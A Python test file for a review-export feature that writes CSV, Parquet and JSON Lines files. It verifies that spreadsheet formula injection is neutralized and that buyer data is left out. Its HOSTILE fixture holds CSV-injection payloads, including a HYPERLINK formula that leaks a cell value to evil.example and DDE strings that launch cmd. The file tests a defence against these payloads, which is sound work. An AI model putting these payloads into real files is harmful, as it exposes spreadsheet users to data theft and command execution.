"""Review exports: a CSV a spreadsheet cannot be tricked by (OWASP's CSV injection guidance),
UTF-8 with a BOM and CRLF; Parquet and JSON Lines with the schema docs/reviews.md documents;
streamed in batches; never a buyer's data; and `syndicator reviews export` end to end."""

from __future__ import annotations

import csv
import io
import itertools
import json
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from syndicator.cli import app
from syndicator.domain.reviews import Review, ReviewSource
from syndicator.reviews.export import PARQUET_SCHEMA, csv_cell, export_reviews, neutralize
from syndicator.reviews.records import record_reviews
from syndicator.store import Store
from syndicator.store.reviews import REVIEW_COLUMNS, ReviewFilter, read_reviews
from tests.conftest import REPO

T0 = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
NOW = datetime(2026, 3, 5, 8, 0, tzinfo=UTC)
ARABIC = "قطعة جميلة ومغلفة بعناية، شكراً للتعاونية!"
EMAIL = "fatima.zahra@example.com"

# Texts a buyer could write to attack whoever opens the export in a spreadsheet.
HOSTILE = {
    "R-link": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
    "R-plus": "+33 6 12 34 56 78 call me",
    "R-minus": "-2+3+cmd|' /C calc'!A0",
    "R-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "R-wide": "＝1+1",
}


def review(review_id: str, text: str | None, **kw: Any) -> Review:
    values: dict[str, Any] = {
        "source": ReviewSource.PRODUCT_REVIEW,
        "rating": 4,
        "language": None,
        "created_at": T0,
        "buyer_ref": EMAIL,
    }
    values.update(kw)
    return Review(review_id=review_id, text=text, **values)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    """A store holding hostile texts, an Arabic review, a multi-line one with quotes and an
    Amazon seller feedback (another channel, a day later), every one with a buyer's e-mail
    as the connector's reference."""
    s = Store(f"sqlite:///{tmp_path}/state.db")
    page = [review(rid, text) for rid, text in HOSTILE.items()]
    page += [
        review("R-ar", ARABIC, rating=5, language="ar", sku="ZF-TBL-001", order_ref="ANOU-7"),
        review("R-lines", 'Très "beau"\r\nmais lourd', rating=3),
        review("R-empty", None, rating=1),
        review("-R-cells", "Bien reçu.", sku="\t=1+1", order_ref="\r=2+2"),
    ]
    feedback = review(
        "seller-feedback:111-2",
        "Arrived damaged, disappointed.",
        source=ReviewSource.SELLER_FEEDBACK,
        rating=2,
        complete_sample=False,
        created_at=T0 + timedelta(days=1),
        order_ref="111-2",
    )
    with s.write() as conn:
        record_reviews(conn, "zellige-fes", "etsy", page, {}, NOW)
        record_reviews(conn, "atlas-rugs", "amazon", [feedback], {}, NOW)
    yield s
    s.close()


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, Arabic shows right
    text = raw[3:].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --------------------------------------------------------------------------- CSV
@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("Très beau - merci", "Très beau - merci"),
        ("5 étoiles", "5 étoiles"),
        ("", ""),
        (ARABIC, ARABIC),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str, safe: str) -> None:
    assert neutralize(cell) == safe


def test_only_text_is_neutralized_numbers_times_and_nulls_are_written_plainly() -> None:
    assert [csv_cell(v) for v in (None, True, False, 5, T0, "-x")] == [
        "",
        "true",
        "false",
        "5",
        "2026-03-01T09:30:00Z",
        "'-x",
    ]


def test_the_csv_is_safe_in_a_spreadsheet(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "reviews.csv"
    assert export_reviews(store, out, "csv") == 10
    raw = out.read_bytes()
    assert raw.count(b"\r\n") == 12 and b"\n" not in raw.replace(b"\r\n", b"")  # CRLF only
    rows = {r["review_id"]: r for r in read_csv(out)}
    for review_id, text in HOSTILE.items():
        assert rows[review_id]["text"] == "'" + text, review_id
    assert rows["R-link"]["text"].startswith("'=HYPERLINK(")
    cells = rows["'-R-cells"]  # every text cell, not only the review's text
    assert (cells["sku"], cells["order_ref"]) == ("'\t=1+1", "'\r=2+2")
    assert list(rows["R-ar"]) == list(REVIEW_COLUMNS)


def test_the_csv_round_trips_arabic_and_quotes(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "reviews.csv"
    export_reviews(store, out, "csv")
    rows = {r["review_id"]: r for r in read_csv(out)}
    ar = rows["R-ar"]
    assert (ar["text"], ar["language"], ar["language_source"]) == (ARABIC, "ar", "channel")
    assert (ar["rating"], ar["sku"], ar["order_ref"]) == ("5", "ZF-TBL-001", "ANOU-7")
    assert rows["R-lines"]["text"] == 'Très "beau"\r\nmais lourd'
    assert rows["R-empty"]["text"] == "" and rows["R-empty"]["language"] == ""
    fb = rows["seller-feedback:111-2"]
    assert (fb["source_kind"], fb["complete_sample"]) == ("seller_feedback", "false")
    assert (fb["created_at"], fb["recorded_at"]) == ("2026-03-02T09:30:00Z", "2026-03-05T08:00:00Z")


# --------------------------------------------------------------------------- Parquet, JSONL
def test_parquet_reads_back_with_the_documented_schema(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "reviews.parquet"
    assert export_reviews(store, out, "parquet", batch_size=4) == 10
    table = pq.read_table(out)
    assert table.schema.equals(PARQUET_SCHEMA, check_metadata=True)
    assert table.schema.field("created_at").type == pa.timestamp("us", tz="UTC")
    assert not table.schema.field("rating").nullable and table.schema.field("text").nullable
    rows = {r["review_id"]: r for r in table.to_pylist()}
    assert rows["R-link"]["text"] == HOSTILE["R-link"]  # kept exactly: not a spreadsheet
    assert rows["R-ar"]["text"] == ARABIC and rows["R-ar"]["rating"] == 5
    fb = rows["seller-feedback:111-2"]
    assert fb["created_at"] == T0 + timedelta(days=1) and fb["created_at"].tzinfo is not None
    assert fb["updated_at"] == fb["created_at"] and fb["complete_sample"] is False


def test_json_lines_hold_one_review_a_line_with_the_documented_fields(
    store: Store, tmp_path: Path
) -> None:
    out = tmp_path / "reviews.jsonl"
    assert export_reviews(store, out, "jsonl") == 10
    raw = out.read_bytes()
    assert ARABIC.encode() in raw and not raw.startswith(b"\xef\xbb\xbf")
    lines = [json.loads(line) for line in raw.decode().splitlines()]
    assert len(lines) == 10 and all(list(line) == list(REVIEW_COLUMNS) for line in lines)
    first = lines[0]
    assert first["created_at"] == "2026-03-01T09:30:00Z" and isinstance(first["rating"], int)
    empty = next(line for line in lines if line["review_id"] == "R-empty")
    assert empty["text"] is None and empty["language"] is None
    assert lines[-1]["review_id"] == "seller-feedback:111-2"  # oldest first


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_an_export_holds_no_buyer_data(store: Store, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"reviews.{fmt}"
    export_reviews(store, out, fmt)
    raw = out.read_bytes()
    assert b"buyer" not in raw and EMAIL.encode() not in raw and b'"b:' not in raw


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_batches_make_the_same_file_as_one_read(store: Store, tmp_path: Path, fmt: str) -> None:
    export_reviews(store, tmp_path / f"one.{fmt}", fmt)
    export_reviews(store, tmp_path / f"many.{fmt}", fmt, batch_size=2)
    if fmt == "parquet":
        one, many = (pq.read_table(tmp_path / f"{n}.{fmt}") for n in ("one", "many"))
        assert one.equals(many)
    else:
        assert (tmp_path / f"one.{fmt}").read_bytes() == (tmp_path / f"many.{fmt}").read_bytes()


def test_filters_pick_by_creation_day_channel_and_cooperative(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "r.jsonl"

    def ids(where: ReviewFilter) -> set[str]:
        export_reviews(store, out, "jsonl", where)
        return {json.loads(line)["review_id"] for line in out.read_text().splitlines()}

    later = ReviewFilter(since=datetime(2026, 3, 2, tzinfo=UTC))
    assert ids(later) == {"seller-feedback:111-2"}
    assert len(ids(ReviewFilter(channel="etsy"))) == 9
    assert ids(ReviewFilter(cooperative="atlas-rugs", channel="etsy")) == set()


def test_an_empty_export_still_has_its_header_and_schema(tmp_path: Path) -> None:
    empty = Store(f"sqlite:///{tmp_path}/empty.db")
    try:
        export_reviews(empty, tmp_path / "e.csv", "csv")
        export_reviews(empty, tmp_path / "e.parquet", "parquet")
        assert export_reviews(empty, tmp_path / "e.jsonl", "jsonl") == 0
    finally:
        empty.close()
    assert read_csv(tmp_path / "e.csv") == []
    assert pq.read_table(tmp_path / "e.parquet").schema.equals(PARQUET_SCHEMA)
    assert (tmp_path / "e.jsonl").read_bytes() == b""


def test_a_failed_export_leaves_the_previous_file_alone(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "r.csv"
    out.write_text("yesterday's export")

    def broken(conn: Any, *args: Any, **kw: Any) -> Iterator[Any]:
        yield from itertools.islice(read_reviews(conn, *args, **kw), 1)
        raise RuntimeError("the database went away")

    monkeypatch.setattr("syndicator.reviews.export.read_reviews", broken)
    for fmt in ("csv", "parquet", "jsonl"):
        with pytest.raises(RuntimeError, match="went away"):
            export_reviews(store, out, fmt, batch_size=2)
    with pytest.raises(ValueError, match="xlsx"):
        export_reviews(store, out, "xlsx")
    assert out.read_text() == "yesterday's export"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_no_reader_gets_the_buyer_column(store: Store) -> None:
    with store.read() as conn, pytest.raises(ValueError, match="not a review column"):
        next(read_reviews(conn, columns=("buyer_ref",)))


# --------------------------------------------------------------------------- the command
runner = CliRunner()


def demo_config(tmp_path: Path) -> Path:
    """The demo config and catalogs in a fresh folder (its store: config/var/demo.db)."""
    target = tmp_path / "config"
    shutil.copytree(REPO / "config", target, ignore=shutil.ignore_patterns("var"))
    return target / "demo.yaml"


def test_the_export_command_writes_each_format(tmp_path: Path) -> None:
    config = demo_config(tmp_path)
    url = f"sqlite:///{tmp_path}/demo.db"
    s = Store(url)
    with s.write() as conn:
        record_reviews(
            conn,
            "zellige-fes",
            "anou",
            [review("R-1", "=cmd", language="fr"), review("R-2", ARABIC, created_at=NOW)],
            {},
            NOW,
        )
    s.close()
    env = {"SYNDICATOR_DATABASE_URL": url}
    for fmt in ("csv", "parquet", "jsonl"):
        out = tmp_path / "out" / f"reviews.{fmt}"
        args = ["reviews", "export", "--config", str(config), "--format", fmt, "--out", str(out)]
        result = runner.invoke(app, args, env=env)
        assert result.exit_code == 0, result.output
        assert "2 review(s) written" in result.stderr
    assert read_csv(tmp_path / "out" / "reviews.csv")[0]["text"] == "'=cmd"
    assert pq.read_table(tmp_path / "out" / "reviews.parquet").num_rows == 2

    out = tmp_path / "since.jsonl"
    base = ["reviews", "export", "--config", str(config), "--format", "jsonl", "--out", str(out)]
    result = runner.invoke(app, [*base, "--since", "2026-03-05", "--channel", "anou"], env=env)
    assert result.exit_code == 0, result.output
    assert [json.loads(x)["review_id"] for x in out.read_text().splitlines()] == ["R-2"]
    result = runner.invoke(app, [*base, "--cooperative", "atlas-rugs"], env=env)
    assert result.exit_code == 0 and out.read_text() == ""

    bad_format = runner.invoke(app, [*base[:-4], "--format", "xlsx", "--out", str(out)], env=env)
    assert bad_format.exit_code == 2 and "csv, parquet, jsonl" in bad_format.stderr
    bad_date = runner.invoke(app, [*base, "--since", "last week"], env=env)
    assert bad_date.exit_code == 2 and "YYYY-MM-DD" in bad_date.stderr
    typo = runner.invoke(app, [*base, "--channel", "etsi"], env=env)
    assert typo.exit_code == 2 and 'did you mean "etsy"?' in typo.stderr
